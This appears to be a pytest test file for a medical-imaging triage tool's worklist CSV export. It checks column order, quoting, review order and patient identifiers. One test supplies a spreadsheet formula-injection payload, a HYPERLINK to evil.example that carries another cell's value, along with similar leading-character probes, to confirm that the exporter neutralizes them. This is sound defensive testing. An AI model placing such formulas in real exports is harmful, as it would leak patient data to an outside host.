"""Worklist CSVs: stable columns, RFC 4180 round trips, review order, identifiers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from triage.dicom.scan.grouping import StudyGroup
from triage.dicom.scan.index import InstanceRecord
from triage.run.worklist import (
    REVIEW_NAME,
    WORKLIST_COLUMNS,
    WORKLIST_NAME,
    WorklistRow,
    read_worklist,
    review_order,
    study_identifiers,
    write_worklists,
)

DOCUMENTED = ("study_uid", "accession_number", "patient_id", "study_date", "modality",
              "device_group", "series_uid", "route", "priority", "p_calibrated", "reasons",
              "rule_ids", "ingest_status", "verdict", "warnings", "input_distance",
              "model_name", "model_version", "temperature", "rules_version", "processed_at",
              "guarantee", "priority_reason")


def _row(uid: str, route: str = "routine", priority: int = 5, p: str = "0.100000",
         **kw) -> WorklistRow:
    return WorklistRow(study_uid=uid, route=route, priority=priority, p_calibrated=p, **kw)


def test_columns_are_the_documented_ones_in_order():
    assert WORKLIST_COLUMNS == DOCUMENTED
    doc = (Path(__file__).resolve().parents[2] / "docs" / "worklist.md").read_text("utf-8")
    for column in WORKLIST_COLUMNS:
        assert f"`{column}`" in doc, column


def test_awkward_values_round_trip_with_rfc4180_quoting(tmp_path):
    awkward = 'rule "a", then b; line\nbreak, Ünïcode'
    rows = [_row("1.2.3", reasons=awkward, patient_id="O'Brien, \"PJ\"", rule_ids="x; y"),
            _row("unreadable:dir, with comma/f.dcm", route="failed", priority=3, p="")]
    worklist, _ = write_worklists(rows, tmp_path)
    raw = worklist.read_bytes()
    assert raw.startswith(",".join(WORKLIST_COLUMNS).encode() + b"\r\n")
    assert b'"rule ""a"", then b; line\nbreak, \xc3\x9cn\xc3\xafcode"' in raw
    back = read_worklist(worklist)
    assert back == sorted(rows, key=lambda r: r.study_uid)
    with open(worklist, encoding="utf-8", newline="") as fh:
        parsed = list(csv.reader(fh))
    assert all(len(line) == len(WORKLIST_COLUMNS) for line in parsed)
    assert not list(tmp_path.glob(".*.tmp"))  # atomic writes leave no temporary file


def test_formula_cells_are_neutralized_and_numbers_stay_numbers(tmp_path):
    hostile = dict(accession_number='=HYPERLINK("http://evil.example/?x="&C2, "open")',
                   patient_id="+41 79", study_date="@SUM(1)", device_group="-acme",
                   warnings="\tnote", reasons="\rcr", series_uid="'quoted",
                   input_distance="-0.5000", temperature="0.2")
    rows = [_row("1.2.3", route="review", priority=4, p="0.074000", **hostile)]
    worklist, review = write_worklists(rows, tmp_path)
    for path in (worklist, review):
        with open(path, encoding="utf-8", newline="") as fh:
            cells = list(csv.DictReader(fh))[0]
        for column, value in hostile.items():
            expected = value if column in {"input_distance", "temperature"} else "'" + value
            assert cells[column] == expected, column
        assert (cells["priority"], cells["p_calibrated"]) == ("4", "0.074000")
    assert read_worklist(worklist) == rows  # the quote is undone on reading
    assert read_worklist(review) == rows


def test_review_worklist_holds_review_and_failed_by_priority_then_probability(tmp_path):
    rows = [_row("a", "review", 4, "0.300000"), _row("b", "urgent", 1, "0.990000"),
            _row("c", "failed", 3, ""), _row("d", "review", 4, ""),
            _row("e", "review", 2, "0.700000"), _row("f", "review", 4, "0.600000"),
            _row("g", "routine", 5, "0.010000"), _row("h", "review", 4, "")]
    processed = {uid: i for i, uid in enumerate("hgfedcba")}
    write_worklists(rows, tmp_path, processed=processed)
    review = [r.study_uid for r in read_worklist(tmp_path / REVIEW_NAME)]
    # priority; then highest probability; unknown probability last, in processed order
    assert review == ["e", "c", "f", "a", "h", "d"]
    assert [r.study_uid for r in read_worklist(tmp_path / WORKLIST_NAME)] == list("abcdefgh")
    assert [r.study_uid for r in review_order(rows)] == ["e", "c", "f", "a", "d", "h"]


def test_one_row_per_study_is_enforced(tmp_path):
    with pytest.raises(ValueError, match="one row per study; study a has 2"):
        write_worklists([_row("a"), _row("b"), _row("a")], tmp_path)


def test_identifiers_come_from_the_files_majority_first():
    def record(name: str, pid: str | None, acc: str | None = "A1") -> InstanceRecord:
        return InstanceRecord(path=Path(name), study_uid="1.2", series_uid="1.2.1",
                              patient_id=pid, accession_number=acc, study_date="20240101")

    study = StudyGroup("1.2", {"1.2.1": (record("a", "P2"), record("b", "P1"),
                                         record("c", "P1"), record("d", None, None))})
    ids = study_identifiers(study)
    assert (ids.patient_id, ids.accession_number, ids.study_date) == ("P1", "A1", "20240101")
    pseudo = StudyGroup("unreadable:x.dcm", {}, errors=(InstanceRecord(
        path=Path("x.dcm"), error="zero-length file"),))
    assert study_identifiers(pseudo).patient_id == ""
